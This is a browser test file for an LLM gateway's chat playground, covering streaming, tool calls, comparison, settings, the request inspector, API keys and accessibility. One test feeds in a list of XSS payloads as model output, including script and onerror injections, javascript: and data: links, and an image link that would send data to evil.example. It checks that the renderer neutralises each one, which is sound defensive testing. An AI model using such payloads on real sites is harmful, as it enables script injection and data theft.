// The page as the gateway serves it, in a real browser: by mouse and by keyboard, light and dark, wide and narrow.
import { LlmError } from '@patchbay/core'
import { describe, expect, it } from 'vitest'
import { browserPath } from '../../test/chromium.js'
import { answer, ask, lookAt, playground, question, shots } from '../../test/playground.js'
import { over } from '../../test/served.js'
import { newKey } from '../index.js'

describe.skipIf(!browserPath)('the page', () => {
  const the = playground()

  it('chats, streamed, and keeps it', async () => {
    const { page, wrong, elsewhere } = await the.open()
    the.small.answer({ text: 'One **two** three', interval: 150, reasoning: 'Let me think.' }, 'Again.')
    await ask(page, 'Hello there')
    await expect.poll(() => answer(page).textContent()).toContain('Let me think.')
    await expect.poll(() => answer(page).locator('strong').textContent()).toBe('two')
    await expect.poll(() => answer(page).textContent()).toMatch(/first token .* s · .* tokens\/s .* out/)
    await ask(page, 'And again')
    await expect.poll(() => answer(page).textContent()).toContain('Again.')
    expect(the.small.requests[1]?.messages).toMatchObject([
      { role: 'user', content: [{ text: 'Hello there' }] },
      { role: 'assistant', content: [{ text: 'One **two** three' }] },
      { role: 'user', content: [{ text: 'And again' }] },
    ])
    await page.reload()
    await expect.poll(() => answer(page).textContent()).toContain('Again.')
    await page.getByRole('button', { name: 'New conversation' }).click()
    expect(await page.getByRole('article').count()).toBe(0)
    await page.getByLabel('More for Hello there').click()
    await page.getByRole('button', { name: 'Delete Hello there' }).click()
    await expect.poll(() => page.getByRole('button', { name: 'Hello there' }).count()).toBe(0)
    expect([wrong, elsewhere]).toEqual([[], []])
  })

  it('lets whoever sits before it be the tool', async () => {
    const { page } = await the.open()
    the.small.answer(
      { toolCalls: [{ id: 'c', name: 'get_weather', input: { city: 'Lima' } }] },
      'It is sunny.',
    )
    await page.getByRole('button', { name: 'Use an example tool' }).click()
    await ask(page, 'Weather in Lima?')
    await page.getByLabel('Result of get_weather').fill('sunny, 21 degrees')
    await page.screenshot({ path: `${shots}/tool.png` })
    await page.getByRole('button', { name: 'Send results' }).click()
    await expect.poll(() => answer(page).textContent()).toContain('It is sunny.')
    expect(the.small.requests[0]?.tools).toMatchObject([{ name: 'get_weather' }])
    expect(the.small.requests[1]?.messages.at(-1)).toMatchObject({
      role: 'tool',
      content: [{ type: 'tool-result', id: 'c', output: 'sunny, 21 degrees' }],
    })
  })

  it('sends images', async () => {
    const { page } = await the.open()
    const png = Buffer.from(
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
      'base64',
    )
    await page.getByLabel('Attachments').setInputFiles({ name: 'a.png', mimeType: 'image/png', buffer: png })
    await page.getByRole('button', { name: 'Remove a.png' }).waitFor()
    await ask(page, 'What is it?')
    await expect.poll(() => the.small.requests.length).toBe(1)
    expect(the.small.requests[0]?.messages[0]?.content).toEqual([
      { type: 'image', mediaType: 'image/png', data: png.toString('base64') },
      { type: 'text', text: 'What is it?' },
    ])
  })

  it('asks several side by side, each with its own numbers', async () => {
    const { page } = await the.open()
    const words = Array.from({ length: 30 }, (_, index) => `word${index}`).join(' ')
    the.small.answer({ text: words, interval: 20 }, 'Mine.')
    the.large.answer({ text: words, interval: 40 }, 'Mine too.')
    await page.getByRole('button', { name: 'Compare', exact: true }).click()
    await page.getByRole('tab', { name: 'Numbers' }).click()
    await ask(page, 'Talk')
    await expect.poll(() => answer(page, 'large').textContent()).toContain('word10')
    await expect.poll(() => page.locator('.u-wrap canvas').count()).toBe(2)
    await expect.poll(() => answer(page, 'large').textContent(), { timeout: 5000 }).toContain('30 out')
    await expect
      .poll(() => page.getByRole('table', { name: 'All answers' }).locator('tbody tr').count())
      .toBe(2)
    await page.screenshot({ path: `${shots}/compare.png` })
    await ask(page, 'More')
    await expect.poll(() => answer(page, 'large').textContent()).toContain('Mine too.')
    expect(the.large.requests[1]?.messages).toHaveLength(3)
  })

  it('sends what is set, and says what is wrong with it', async () => {
    const { page } = await the.open()
    await page.getByRole('textbox', { name: 'Instructions' }).fill('Be brief.')
    await page.getByLabel('Temperature', { exact: true }).fill('0.5')
    await page.getByLabel('Longest answer, tokens').fill('9')
    await page.getByLabel('Stop at these texts, one per line').fill('END')
    await page.getByRole('combobox', { name: /^Thinking/ }).selectOption('low')
    await page.getByLabel('JSON schema of the answer').fill('{ "type": ')
    await ask(page, 'Hi')
    await page.getByRole('alert').filter({ hasText: 'The JSON schema' }).waitFor()
    expect(the.small.requests).toHaveLength(0)
    await page.getByLabel('JSON schema of the answer').fill('{ "type": "object" }')
    the.small.answer('{}')
    await question(page).press('Enter')
    await expect
      .poll(() => the.small.requests)
      .toMatchObject([
        {
          messages: [{ role: 'system' }, { role: 'user' }],
          temperature: 0.5,
          maxOutputTokens: 9,
          stop: ['END'],
          reasoning: 'low',
          output: { schema: { type: 'object' } },
        },
      ])
  })

  it('shows what went over the wire, and gives it as code', async () => {
    const { page, context } = await the.open()
    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
    the.small.answer('Over the wire')
    await ask(page, 'Hi')
    await answer(page).getByRole('button', { name: 'Inspect' }).click()
    const panel = page.getByRole('tabpanel')
    await expect.poll(() => panel.textContent()).toMatch(/POST \/v1\/chat\/completions → 200/)
    await expect.poll(() => panel.textContent()).toMatch(/ms {2}data: \{.*Over/)
    // It has no key.
    expect(await panel.textContent()).not.toContain('authorization')
    await page.screenshot({ path: `${shots}/inspector.png` })
    await answer(page).getByRole('button', { name: 'Copy as code' }).click()
    await page.getByRole('button', { name: 'Copy', exact: true }).click()
    const code = await page.evaluate<string>('navigator.clipboard.readText()')
    expect(code).toContain(`const provider = await connect('small')`)
    expect(code).toContain(`content: 'Hi'`)
    await page.getByRole('combobox', { name: /^For/ }).selectOption('curl')
    await expect.poll(() => panel.textContent()).toContain('curl -N')
  })

  it('stops with Escape, and keeps what was said', async () => {
    const { page } = await the.open()
    the.small.answer({ text: 'half an answer', interval: 2000 })
    await ask(page, 'Hi')
    await expect.poll(() => answer(page).textContent()).toContain('half')
    await question(page).press('Escape')
    await expect.poll(() => answer(page).textContent()).toContain('Stopped.')
    expect(await answer(page).textContent()).toContain('half')
    await expect.poll(() => the.small.running).toBe(0)
  })

  it('says what failed, and what to do', async () => {
    const { page } = await the.open()
    the.small.answer(new LlmError('rate-limited', 'Slow down.'))
    await ask(page, 'Hi')
    await expect.poll(() => answer(page).getByRole('alert').textContent()).toMatch(/rate-limited .*Slow down/)
  })

  it('lets nothing of what a model says run, load or lead anywhere by itself', async () => {
    const { page, elsewhere } = await the.open()
    const evil = [
      '<script>window.pwned = 1</script>',
      '<img src="x" onerror="window.pwned = 2">',
      '![a](https://evil.example/steal?q=secret)',
      '<svg onload="window.pwned = 3"></svg>',
      '<iframe src="https://evil.example"></iframe>',
      '[click](javascript:window.pwned=4)',
      '<a href="data:text/html,<script>window.pwned=5</script>">x</a>',
      '<form action="https://evil.example"><input name="a"><button>b</button></form>',
      '<style>body { background: url(https://evil.example/css) }</style>',
      '<p style="position:fixed;inset:0">over all</p>',
      '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=6">',
      '[a link](https://good.example)',
      'the end',
    ].join('\n\n')
    the.small.answer({ events: [{ type: 'text', text: evil }] }, { reasoning: evil, text: 'x' })
    await ask(page, evil)
    await expect.poll(() => answer(page).textContent()).toContain('the end')
    const said = answer(page).locator('.markdown')
    expect(
      await said.locator('script, img, svg, iframe, form, input, button, style, [style], math').count(),
    ).toBe(0)
    // What would have been loaded is a link, which is followed by whoever wants to.
    const links = await Promise.all((await said.locator('a').all()).map((link) => link.getAttribute('href')))
    expect(links).toEqual(['https://evil.example/steal?q=secret', null, 'https://good.example'])
    // And nothing of it is lost.
    expect(await said.textContent()).toContain('<script>window.pwned = 1</script>')
    expect(await said.textContent()).toContain('<iframe src="https://evil.example"></iframe>')
    expect(await said.locator('a').last().getAttribute('rel')).toContain('noopener')
    await ask(page, 'More')
    await expect.poll(() => page.getByRole('article').count()).toBe(2)
    expect(await page.evaluate('window.pwned')).toBeUndefined()
    expect(elsewhere).toEqual([])
  })

  it('asks for a key where the gateway wants one, and keeps it until the window is closed', async () => {
    const { key, hash } = newKey()
    const gateway = await over(() => the.small, { keys: { ann: { hash } } })
    the.gateways.push(gateway)
    const one = await the.visit(gateway.url)
    await one.page.getByLabel('This gateway needs an API key').fill(key)
    await one.page.getByRole('button', { name: 'Use key' }).click()
    the.small.answer('With a key')
    await expect.poll(() => one.page.getByRole('combobox', { name: 'Model' }).inputValue()).toBe('default')
    await ask(one.page, 'Hi')
    await expect.poll(() => answer(one.page, 'default').textContent()).toContain('With a key')
    await answer(one.page, 'default').getByRole('button', { name: 'Inspect' }).click()
    const panel = one.page.getByRole('tabpanel')
    await expect.poll(() => panel.textContent()).toContain('authorization: (left out)')
    expect(await panel.textContent()).not.toContain(key)
    expect(await one.page.evaluate('JSON.stringify(localStorage)')).not.toContain(key)
  })

  it.each([
    ['light', { colorScheme: 'light' as const }],
    ['dark', { colorScheme: 'dark' as const }],
    ['phone', { viewport: { width: 390, height: 780 }, hasTouch: true, isMobile: true }],
  ])('can be used by everybody: %s', async (name, options) => {
    const { page } = await the.open(options)
    the.small.answer({
      reasoning: 'Hm.',
      text: '# A title\n\nSome `code`, a [link](https://a.example) and\n\n| a | b |\n|---|---|\n| 1 | 2 |',
    })
    await ask(page, 'What does it look like?')
    await expect.poll(() => answer(page).textContent()).toContain('A title')
    const check = (where: string) => lookAt(page, `${name}-${where}`)
    await check('talk')
    if (name === 'phone') {
      await answer(page).getByRole('button', { name: 'Inspect' }).tap()
      await page.getByText('POST /v1/chat/completions').waitFor()
      await check('inspector')
      await page.getByRole('tab', { name: 'Numbers' }).tap()
      await expect.poll(() => page.locator('.u-wrap canvas').count()).toBe(2)
      await check('numbers')
      await page.getByRole('button', { name: 'Close' }).tap({ position: { x: 5, y: 300 } })
      await page.getByRole('button', { name: 'Conversations' }).tap()
      await page.getByRole('button', { name: 'What does it look like?', exact: true }).waitFor()
      await check('list')
    } else {
      for (const tab of ['Numbers', 'Inspector']) {
        await page.getByRole('tab', { name: tab }).click()
        await check(tab.toLowerCase())
      }
    }
  })

  it('is all there by keyboard alone', async () => {
    const { page } = await the.open()
    the.small.answer('By keyboard')
    const focused = () =>
      page.evaluate<string>(`{
        const at = document.activeElement
        at.getAttribute('aria-label') ?? at.closest('label')?.textContent ?? at.textContent
      }`)
    const until = async (what: string) => {
      for (let presses = 0; presses < 60; presses++) {
        await page.keyboard.press('Tab')
        if ((await focused()).includes(what)) return
      }
      throw new Error(`Tab never reaches ${what}.`)
    }
    // One can type at once.
    await expect.poll(focused).toContain('Your question')
    await page.keyboard.type('Hi')
    await page.keyboard.press('Enter')
    await expect.poll(() => answer(page).textContent()).toContain('By keyboard')
    await page.keyboard.press('Shift+Tab')
    await until('Settings')
    await page.keyboard.press('ArrowRight')
    await expect
      .poll(() => page.getByRole('tab', { name: 'Numbers' }).getAttribute('aria-selected'))
      .toBe('true')
  })
})
